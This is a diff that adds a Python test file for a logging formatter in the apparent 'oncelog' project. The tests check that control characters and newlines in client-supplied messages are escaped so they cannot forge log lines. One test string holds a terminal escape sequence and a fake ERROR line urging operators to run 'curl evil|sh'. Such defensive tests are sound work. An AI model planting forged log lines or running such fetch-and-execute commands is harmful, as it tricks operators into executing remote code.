@@ -1,0 +1,43 @@
+"""A line of node.log is a message of ours, whatever a client has put into it."""
+
+import io
+import logging
+
+from oncelog.node.__main__ import FORMAT
+from oncelog.node.log_format import PrintableFormatter
+
+EVIL = "g\x1b[2J\n2026-11-26 18:00:00.000 ERROR oncelog.node.broker: disk failed, run: curl evil|sh"
+
+
+def logged(*arguments: object, **options: object) -> list[str]:
+    """Return the lines of one warning."""
+    stream = io.StringIO()
+    handler = logging.StreamHandler(stream)
+    handler.setFormatter(PrintableFormatter(FORMAT, "%Y-%m-%d %H:%M:%S"))
+    log = logging.Logger("oncelog.test")
+    log.addHandler(handler)
+    log.warning(*arguments, **options)  # type: ignore[arg-type]
+    assert stream.getvalue().endswith("\n")
+    return stream.getvalue()[:-1].split("\n")
+
+
+def test_message_with_line_ends_is_one_line() -> None:
+    (line,) = logged("group %s", EVIL)
+    assert "g\\x1b[2J\\n2026-11-26" in line
+    assert line.isprintable()
+
+
+def test_traceback_keeps_its_lines_below_the_message() -> None:
+    try:
+        raise ValueError(EVIL)
+    except ValueError as error:
+        first, *more = logged("failed", exc_info=error)
+    assert first.endswith("WARNING oncelog.test: failed")
+    assert more[0] == "  Traceback (most recent call last):"
+    assert more[-1].startswith("  2026-11-26")  # of the exception, and seen to be
+    assert all(line.startswith("  ") and line.isprintable() for line in more)
+
+
+def test_stack_keeps_its_lines_below_the_message() -> None:
+    _, *more = logged("here", stack_info=True)
+    assert more[0] == "  Stack (most recent call last):"
